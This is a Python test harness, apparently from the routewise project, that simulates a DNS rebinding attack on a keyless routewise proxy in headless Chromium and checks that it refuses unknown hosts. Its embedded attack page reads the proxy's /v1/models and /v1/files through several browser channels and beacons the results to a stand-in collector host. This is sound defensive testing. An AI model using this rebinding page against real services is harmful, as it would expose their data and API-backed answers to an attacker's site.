"""DNS rebinding against a keyless routewise, in a real headless Chromium.

What it simulates: a page at http://evil.test:P/ loads from the attacker; then the name's DNS answer
"changes" to the machine running routewise, so the page's later requests to its own origin reach
routewise. The browser sees them as same-origin: no CORS applies and the page reads every answer.
What routewise gets is Host: evil.test:P and, over plain http, neither Origin (on GETs) nor
Sec-Fetch-* (Chromium sends those only to secure origins). A keyless routewise (no server.api_keys)
must therefore refuse /v1/* for a host name it does not know (403 host_not_allowed); one that
answers hands the page its upstreams' answers, sent with the upstream key routewise holds.

How: Chromium runs with --host-resolver-rules mapping evil.test and other.test to 127.0.0.1, so no
DNS is involved. A switch on port P serves the attack page (and a worker script), Connection: close;
once the page has loaded it stops serving and forwards every new connection on P to routewise
(keyless, routing {passthrough: strong}) on P+1; that is the rebinding. other.test:P+2 collects the
page's results and serves a cross-site redirect; a fake upstream on P+3 answers /v1/files with a
marker and records the Authorization header; the marker is also the upstreams' model name, which
/v1/models lists. The page then reads /v1/models and /v1/files by fetch, XHR, iframe, form GET into
an iframe, window.open, a worker loaded before the rebinding, and iframes led there through a
redirect from other.test. For each attempt it prints the request headers routewise got (Origin,
Sec-Fetch-Site), routewise's status and error code, whether the upstream was called with its key,
and whether the page read the marker; then "LEAKED: n of m" (exit 1) or "held: 0 of m" (exit 0).
Exit 2: the trial did not complete (page never loaded, or attempts gave no result).

--mode secure adds --unsafely-treat-insecure-origin-as-secure=http://evil.test:P, so Chromium
sends Sec-Fetch-* (Sec-Fetch-Site: same-origin: the rebound requests look like the page's own).

  . .ci/jdk.sh   # a JDK >= 21 on PATH (or pass --java)
  mvn -B -q -ntp package -Dmaven.test.skip=true
  python3 docs/bench/rebinding_trial.py --jar target/routewise.jar [--mode http|secure]
  (RebindingBrowserTest runs it in the test suite with --classpath when Chromium is installed)

Needs python3 (stdlib only) and Chromium (Debian's `chromium`; --chromium PATH). Runs as root too
(--no-sandbox). About 10 s a run. Everything it starts is stopped on exit, Ctrl-C or an error; its
files (config, logs, browser profile) live in a temp dir, kept with --keep or after a failure.
"""
import argparse, json, os, re, shutil, signal, socket, subprocess, sys, tempfile, threading, time
import urllib.parse, urllib.request
from http.server import ThreadingHTTPServer, BaseHTTPRequestHandler

DIRECT = urllib.request.build_opener(urllib.request.ProxyHandler({}))  # an http_proxy in the environment is not ours
MARK = "RWTRIAL-MARKER-5e1f"
KEY = "sk-TRIAL-UPSTREAM-KEY"
CONFIG = """server: {host: 127.0.0.1, port: %(rw)d, api_keys: []}
upstreams:
  strong: {base_url: "http://127.0.0.1:%(up)d/v1", api_key: "%(key)s", model: "%(mark)s-strong"}
  weak: {base_url: "http://127.0.0.1:%(up)d/v1", api_key: "%(key)s", model: "%(mark)s-weak"}
routing: {passthrough: strong}
models_dir: %(dir)s/models
routers: {}
"""
ATTEMPTS = [  # tag, label, JS expression giving a promise of {status?, text?, err?}
    ("fetch-models", "fetch GET /v1/models", "fx(U('/v1/models','fetch-models'))"),
    ("fetch-files", "fetch GET /v1/files", "fx(U('/v1/files','fetch-files'))"),
    ("xhr", "XHR GET /v1/files", "xhr(U('/v1/files','xhr'))"),
    ("iframe", "iframe /v1/files", "ifr(U('/v1/files','iframe'))"),
    ("form-get", "form GET -> iframe /v1/files", "form('/v1/files','form-get')"),
    ("popup", "window.open /v1/files", "popup(U('/v1/files','popup'))"),
    ("worker", "worker (loaded before) fetch /v1/files", "askWorker(U('/v1/files','worker'))"),
    ("redir-files", "other.test redirect -> iframe /v1/files", "ifr(RD(U('/v1/files','redir-files')))"),
    ("redir-models", "other.test redirect -> iframe /v1/models", "ifr(RD(U('/v1/models','redir-models')))"),
]
PAGE = """<!doctype html><html><body><h1>evil</h1><script>
const Q = new URLSearchParams(location.search), OTHER = 'http://other.test:' + Q.get('r');
const sleep = ms => new Promise(r => setTimeout(r, ms));
const beacon = o => navigator.sendBeacon(OTHER + '/beacon', new Blob([JSON.stringify(o)], {type: 'text/plain'}));
const U = (p, t) => p + '?t=' + t, RD = u => OTHER + '/redir?to=' + encodeURIComponent(location.origin + u);
const race = p => Promise.race([p, sleep(6000).then(() => ({err: 'timeout'}))]);
async function fx(u) { const r = await fetch(u); return {status: r.status, text: await r.text()}; }
function xhr(u) { return new Promise(res => { const x = new XMLHttpRequest(); x.open('GET', u);
  x.onload = () => res({status: x.status, text: x.responseText}); x.onerror = () => res({err: 'xhr error'}); x.send(); }); }
function read(d) { return {text: d.body ? d.body.innerText : d.documentElement.textContent}; }
function frame(name) { const f = document.createElement('iframe'); if (name) f.name = name; document.body.appendChild(f); return f; }
function loaded(f) { return new Promise(res => f.onload = () => setTimeout(() => { try { res(read(f.contentDocument)); }
  catch (e) { res({err: String(e)}); } }, 200)); }
function ifr(u) { const f = frame(), p = loaded(f); f.src = u; return p; }
function form(action, t) { const f = frame('fr' + t), p = loaded(f), fm = document.createElement('form');
  fm.method = 'GET'; fm.action = action; fm.target = f.name; const i = document.createElement('input');
  i.type = 'hidden'; i.name = 't'; i.value = t; fm.appendChild(i); document.body.appendChild(fm); fm.submit(); return p; }
function popup(u) { return new Promise(res => { const w = window.open(u, '_blank'); if (!w) return res({err: 'popup blocked'});
  const iv = setInterval(() => { try { if (w.document.URL.includes('/v1/') && w.document.readyState === 'complete') {
    clearInterval(iv); const r = read(w.document); w.close(); res(r); } } catch (e) { clearInterval(iv); res({err: String(e)}); } }, 100); }); }
const worker = new Worker('/worker.js');
function askWorker(u) { return new Promise(res => { worker.onmessage = m => res(m.data); worker.postMessage(u); }); }
const ATTEMPTS = [%(attempts)s];
window.onload = async () => {
  beacon({event: 'loaded', secure: window.isSecureContext});
  while (true) { try { if ((await (await fetch(OTHER + '/phase')).text()) === '2') break; } catch (e) {} await sleep(100); }
  for (const [t, fn] of ATTEMPTS) {
    let r; try { r = await race(fn()); } catch (e) { r = {err: String(e)}; }
    beacon({t, status: r.status, read: typeof r.text === 'string', marker: (r.text || '').includes(Q.get('m')),
            err: r.err, text: (r.text || '').slice(0, 100)});
  }
  beacon({event: 'done'});
};
</script></body></html>"""
WORKER = b"""onmessage = async m => { try { const r = await fetch(m.data);
  postMessage({status: r.status, text: await r.text()}); } catch (e) { postMessage({err: String(e)}); } };"""


class Trial:
    def __init__(self, a):
        self.a, self.procs, self.servers = a, [], []
        self.dir = tempfile.mkdtemp(prefix="rebinding_trial.")
        base = a.port or free_base()
        self.P, self.Q, self.R, self.UP = base, base + 1, base + 2, base + 3
        self.rebound, self.results, self.wire, self.upstream, self.events = threading.Event(), {}, {}, [], set()

    def spawn(self, name, cmd):
        p = subprocess.Popen(cmd, stdin=subprocess.DEVNULL, stdout=open(os.path.join(self.dir, name + ".log"), "ab"),
                             stderr=subprocess.STDOUT, start_new_session=True, cwd=self.dir)
        self.procs.append(p)
        return p

    def serve(self, port, handler):
        s = ThreadingHTTPServer(("127.0.0.1", port), handler)
        threading.Thread(target=s.serve_forever, daemon=True).start(); self.servers.append(s)

    def start_servers(self):
        t = self
        class Up(BaseHTTPRequestHandler):  # the fake upstream
            protocol_version = "HTTP/1.1"
            def log_message(self, *_): pass
            def do_GET(self):
                t.upstream.append((self.path, self.headers.get("Authorization")))
                b = json.dumps({"object": "list", "data": [{"id": "file-" + MARK, "object": "file",
                                                            "filename": "private-%s.jsonl" % MARK}]}).encode()
                self.send_response(200); self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(b))); self.end_headers(); self.wfile.write(b)
        class Other(BaseHTTPRequestHandler):  # other.test: collector, phase, cross-site redirect
            def log_message(self, *_): pass
            def reply(self, code, body=b"", hdrs=()):
                self.send_response(code); self.send_header("Access-Control-Allow-Origin", "*")
                for h in hdrs: self.send_header(*h)
                self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
            def do_POST(self):
                o = json.loads(self.rfile.read(int(self.headers.get("Content-Length") or 0)) or b"{}")
                if "t" in o: t.results[o["t"]] = o
                else: t.events.add(o.get("event"))
                self.reply(204)
            def do_GET(self):
                u = urllib.parse.urlsplit(self.path)
                if u.path == "/phase": self.reply(200, b"2" if t.rebound.is_set() else b"1")
                elif u.path == "/redir": self.reply(302, hdrs=[("Location", urllib.parse.parse_qs(u.query)["to"][0])])
                else: self.reply(404)
        self.serve(self.UP, Up); self.serve(self.R, Other)
        self.switch = socket.socket(); self.switch.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.switch.bind(("127.0.0.1", self.P)); self.switch.listen(64)
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):  # port P: the attacker's server, then (rebound) a forwarder to routewise
        while True:
            try: c, _ = self.switch.accept()
            except OSError: return
            threading.Thread(target=self.forward if self.rebound.is_set() else self.page, args=(c,), daemon=True).start()

    @staticmethod
    def read_request(c):
        data = b""
        while b"\r\n\r\n" not in data:
            d = c.recv(65536)
            if not d: return None, b""
            data += d
        head, _, body = data.partition(b"\r\n\r\n")
        n = int((re.search(rb"(?im)^content-length:\s*(\d+)", head) or [0, b"0"])[1])
        while len(body) < n: body += c.recv(65536)
        return head.decode("latin1"), body

    def page(self, c):
        with c:
            head, _ = self.read_request(c)
            path = head.split(" ")[1].split("?")[0] if head else ""
            body, ctype = {"/": (self.page_html, b"text/html"), "/worker.js": (WORKER, b"text/javascript")}.get(path, (None, None))
            if body is None: c.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"); return
            c.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: " + ctype + b"\r\nCache-Control: no-store\r\nContent-Length: "
                      + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n" + body)

    def forward(self, c):  # one request a connection, so each answer's status is seen
        with c:
            c.settimeout(20); head, body = self.read_request(c)
            if not head: return
            lines = head.split("\r\n")
            hdr = {l.split(":", 1)[0].strip().lower(): l.split(":", 1)[1].strip() for l in lines[1:] if ":" in l}
            lines = [l for l in lines if not l.lower().startswith(("connection:", "keep-alive:"))] + ["Connection: close"]
            tag = urllib.parse.parse_qs(urllib.parse.urlsplit(lines[0].split(" ")[1]).query).get("t", ["-"])[0]
            resp = b""
            try:
                with socket.create_connection(("127.0.0.1", self.Q), timeout=20) as u:
                    u.sendall("\r\n".join(lines).encode("latin1") + b"\r\n\r\n" + body)
                    while True:
                        d = u.recv(65536)
                        if not d: break
                        resp += d
                c.sendall(resp)
            except OSError as e:
                resp = b"X " + type(e).__name__.encode()
            code = re.search(rb'"code"\s*:\s*"([^"]+)"', resp)
            self.wire[tag] = dict(status=resp.split(b" ", 2)[1].decode() if b" " in resp else "none",
                                  code=code[1].decode() if code else "", origin=hdr.get("origin", "-"),
                                  sfs=hdr.get("sec-fetch-site", "-"), host=hdr.get("host", "-"))

    def start(self):
        a = self.a
        for port in (self.P, self.Q, self.R, self.UP):
            with socket.socket() as s:
                if s.connect_ex(("127.0.0.1", port)) == 0: raise RuntimeError("port %d is in use: pick another --port" % port)
        os.mkdir(os.path.join(self.dir, "models"))
        js = ",\n".join("[%s, () => %s]" % (json.dumps(t), e) for t, _, e in ATTEMPTS)
        self.page_html = (PAGE % {"attempts": js}).encode()
        self.start_servers()
        cfg = os.path.join(self.dir, "routewise.yaml")
        open(cfg, "w").write(CONFIG % dict(rw=self.Q, up=self.UP, key=KEY, mark=MARK, dir=self.dir))
        launch = ["-jar", os.path.abspath(a.jar)] if a.jar else ["-cp", a.classpath, "io.routewise.Main"]
        rw = self.spawn("routewise", [a.java] + launch + ["serve", "--config", cfg])
        wait_for(lambda: health(self.Q), rw, "routewise on %d" % self.Q, 90)
        origin = "http://evil.test:%d" % self.P
        flags = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-proxy-server", "--no-first-run", "--no-default-browser-check",
                 "--disable-popup-blocking", "--disable-extensions", "--disable-background-networking",
                 "--user-data-dir=" + os.path.join(self.dir, "profile"),
                 "--host-resolver-rules=MAP evil.test 127.0.0.1, MAP other.test 127.0.0.1"]
        if a.mode == "secure": flags.append("--unsafely-treat-insecure-origin-as-secure=" + origin)
        ch = self.spawn("chromium", [a.chromium] + flags + ["%s/?r=%d&m=%s" % (origin, self.R, MARK)])
        wait_for(lambda: "loaded" in self.events, ch, "the attack page", 30); time.sleep(0.3)
        self.rebound.set()  # from now on, new connections on P reach routewise
        end = time.time() + a.timeout
        while "done" not in self.events and time.time() < end: time.sleep(0.2)

    def stop(self, keep):
        signal.signal(signal.SIGTERM, signal.SIG_IGN)  # a second signal must not cut the clean-up short
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        for s in self.servers: s.shutdown(); s.server_close()
        if hasattr(self, "switch"): self.switch.close()
        for p in reversed(self.procs):
            try: os.killpg(p.pid, signal.SIGTERM)
            except ProcessLookupError: pass
        for p in self.procs:
            try: p.wait(10)
            except subprocess.TimeoutExpired: pass
            try: os.killpg(p.pid, signal.SIGKILL)
            except ProcessLookupError: pass
            p.wait()
        for pid in [d for d in os.listdir("/proc") if d.isdigit()]:  # a browser child that left the group
            try:
                if self.dir.encode() in open("/proc/%s/cmdline" % pid, "rb").read(): os.kill(int(pid), signal.SIGKILL)
            except OSError: pass
        if keep: print("logs, config and profile kept in", self.dir, file=sys.stderr, flush=True)
        else: shutil.rmtree(self.dir, ignore_errors=True)


def free_base():
    """A port P with P..P+3 free (asked of the kernel, then checked), for --port 0."""
    for _ in range(50):
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0)); base = s.getsockname()[1]
        if base + 3 > 65535: continue
        free = True
        for port in range(base, base + 4):
            with socket.socket() as s:
                try: s.bind(("127.0.0.1", port))
                except OSError: free = False; break
        if free: return base
    raise RuntimeError("found no four free ports in a row")


def wait_for(ready, proc, what, limit):
    end = time.time() + limit
    while time.time() < end:
        if proc.poll() is not None: raise RuntimeError("%s: its process exited with %s" % (what, proc.returncode))
        if ready(): return
        time.sleep(0.1)
    raise RuntimeError("%s not ready after %d s" % (what, limit))


def health(port):
    try: return DIRECT.open("http://127.0.0.1:%d/health" % port, timeout=2).status == 200
    except OSError: return False


def report(t, took):
    print("rebinding_trial: %s, mode %s, attacker http://evil.test:%d/, %.0f s" % (t.a.jar or "class path", t.a.mode, t.P, took))
    fmt = "%-41s %-16s %-6s %-11s %-25s %-9s %s"
    print(fmt % ("attempt", "Host", "Origin", "Sec-Fetch-S", "routewise answered", "upstream", "page read marker"))
    leaked, missing, m = 0, 0, len(ATTEMPTS)
    for tag, label, _ in ATTEMPTS:
        w, r = t.wire.get(tag), t.results.get(tag)
        hit = any("t=%s" % tag in p and a == "Bearer " + KEY for p, a in t.upstream)
        ans = ("%s %s" % (w["status"], w["code"])).strip() if w else "(not reached)"
        if r is None: missing += 1; page = "no result"
        else: page = "YES" if r.get("marker") else "no" + (" (%s)" % r["err"] if r.get("err") else "")
        leaked += bool(r and r.get("marker"))
        print(fmt % (label, w["host"] if w else "-", w["origin"] if w else "-", w["sfs"] if w else "-", ans,
                     "key used" if hit else "-", page))
    if leaked: print("LEAKED: %d of %d" % (leaked, m)); return 1
    if missing: print("INCOMPLETE: %d of %d attempts gave no result (held: 0 of %d)" % (missing, m, m)); return 2
    # held only where routewise itself refused each read: an unreachable or crashed one leaks nothing either
    unrefused = [tag for tag, _, _ in ATTEMPTS if not t.wire.get(tag) or t.wire[tag]["status"] != "403"]
    if unrefused: print("NO VERDICT: routewise did not refuse %s" % ", ".join(unrefused)); return 2
    if t.a.mode == "secure" and all(t.wire[tag]["sfs"] == "-" for tag, _, _ in ATTEMPTS):
        print("NO VERDICT: secure mode, but Chromium sent no Sec-Fetch-Site"); return 2
    print("held: 0 of %d" % m); return 0


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    what = p.add_mutually_exclusive_group(required=True)
    what.add_argument("--jar")
    what.add_argument("--classpath", help="run io.routewise.Main from this class path instead (the test suite's)")
    p.add_argument("--chromium", default="chromium")
    p.add_argument("--java", default=os.path.join(os.environ["JAVA_HOME"], "bin", "java") if os.environ.get("JAVA_HOME") else "java")
    p.add_argument("--mode", choices=("http", "secure"), default="http")
    p.add_argument("--timeout", type=float, default=60, help="seconds the page gets for its attempts after the rebinding")
    p.add_argument("--port", type=int, default=17480, help="attacker port P; routewise P+1, other.test P+2, upstream P+3 (0: any free)")
    p.add_argument("--keep", action="store_true", help="keep the temp dir (kept anyway after an error)")
    a = p.parse_args()
    if a.jar and not os.path.exists(a.jar): sys.exit("no jar at %s: mvn -B -q -ntp package -Dmaven.test.skip=true" % a.jar)
    if not shutil.which(a.chromium): sys.exit("no chromium at %s (--chromium PATH)" % a.chromium)
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    t, t0, ok = Trial(a), time.time(), False
    try:
        t.start(); ok = True
    except KeyboardInterrupt: sys.exit(130)
    except RuntimeError as e: print("no verdict:", e, file=sys.stderr); sys.exit(2)
    finally:
        t.stop(keep=a.keep or not ok)
    sys.exit(report(t, time.time() - t0))


if __name__ == "__main__":
    main()
